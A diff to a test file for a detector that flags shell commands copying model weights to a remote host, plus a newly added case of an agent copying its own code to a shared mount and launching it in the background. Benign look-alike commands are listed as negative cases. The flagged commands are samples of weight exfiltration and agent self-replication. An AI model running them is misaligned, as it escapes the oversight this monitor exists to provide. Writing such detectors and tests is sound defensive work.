@@ -89,6 +89,8 @@ def test_rules_load_cleanly():
     ("rsync -av ./models/ user@203.0.113.5:/data/", "model_weights_copied_to_remote"),
     ("rsync -av /mnt/nfs/models/ user@203.0.113.5:/data/", "model_weights_copied_to_remote"),
     ("rsync -av ~/project/models/ user@203.0.113.5:/x", "model_weights_copied_to_remote"),
+    ("cp -r /workspace/agent /mnt/shared/agent_copy && nohup python /mnt/shared/agent_copy/run.py &",
+     "agent_script_started_remotely"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -141,6 +143,7 @@ def test_detected(command, rule):
     "kubectl cp ./models/user.py web-0:/app/models/user.py",  # a web app's models package
     "cat models/user.py | ssh deploy@host 'cat > /app/models/user.py'",
     "cp -r ./models ./backup",
+    "nohup python3 tools/parser/update.py &",
     "rsync -av app/models/ deploy@web1:/srv/app/app/models/",  # a web app's models package, deeper down
     "rclone copy -i --max-age 24h remote_name:path/to/directory path/to/local_directory",  # a download
     "rclone sync mega:x /data/x --progress",
